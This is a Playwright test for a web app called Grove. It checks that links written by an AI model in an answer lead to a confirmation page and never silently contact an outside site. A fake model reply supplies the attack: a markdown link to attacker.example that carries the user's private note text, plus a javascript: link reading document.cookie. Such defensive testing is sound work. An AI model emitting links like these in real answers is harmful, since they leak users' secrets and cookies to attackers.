"""A link the model writes never takes the person off-site unseen (issue 36 item 2.4), in
real Chromium with CSP on, a real Celery worker and the fake OpenAI-compatible model
returning the attack — `[click](https://attacker.example/c?d=<the note's text>)`: the
answer shows the full destination; clicking lands on Grove's confirmation page, which
shows it again, and no request reaches the other site until *Continue* is clicked. A
`javascript:` link in the same answer is not a link at all."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests import factories
from tests.ask.conftest import fake_provider
from tests.ask.test_ask import answer, index_all
from tests.browser import PASSWORD, sign_in, watch_console
from tests.conftest import redis_url_or_skip

pytestmark = pytest.mark.slow

LEAK = "https://attacker.example/c?d=wifi+hunter2"


def test_a_model_link_opens_the_confirmation_page_not_the_site(browser_site: str, page: Page,
                                                               celery_worker_on):
    from grove.models import Account

    broker = redis_url_or_skip("redis://127.0.0.1:6379/13")
    account = Account.objects.create_user(username="linker", password=PASSWORD)
    me = factories.Actor.for_session(account.id)
    note = factories.note(me, "The wifi password is hunter2.")
    index_all(me)
    attack = (f"It is on the fridge, [click]({LEAK}) to see. "
              "Or [run this](javascript:alert(document.cookie)).")
    offsite: list[str] = []
    page.on("request", lambda request: offsite.append(request.url)
            if urlsplit(request.url).hostname == "attacker.example" else None)
    page.route("https://attacker.example/**", lambda route: route.fulfill(
        status=200, content_type="text/html", body="<p>the other site</p>"))
    with fake_provider(timeout=5.0) as provider, celery_worker_on(broker, {}):
        errors = watch_console(page)
        sign_in(page, browser_site, "linker")
        page.goto(browser_site + "/ask/")
        page.get_by_label("Question").fill("Where is the wifi password?")
        provider.chat_replies = [answer("answered", (attack, [f"note:{note.id}@1"]))]
        page.get_by_role("button", name="Ask", exact=True).click()
        turn = page.locator("li.turn").first
        expect(turn).to_have_attribute("data-status", "completed", timeout=30_000)

        block = turn.locator(".block")
        expect(block.locator(".link-to")).to_have_text(LEAK)  # the whole destination
        expect(block.locator("a:not(.chip)")).to_have_count(1)  # not the javascript: one
        expect(block).to_contain_text("run this")
        block.get_by_role("link", name="click").click()

        expect(page).to_have_url(re.compile(r"/leave/\?to="))
        expect(page.get_by_role("heading", name="You are leaving Grove")).to_be_visible()
        expect(page.locator(".leave-url code")).to_have_text(LEAK)
        expect(page.locator(".leave-host")).to_have_text("attacker.example")
        assert offsite == []  # nothing has gone to the other site yet

        page.get_by_role("link", name="Continue to attacker.example").click()
        expect(page.locator("body")).to_contain_text("the other site")
        assert offsite == [LEAK]  # only now, and only because the person chose it
    assert errors == []
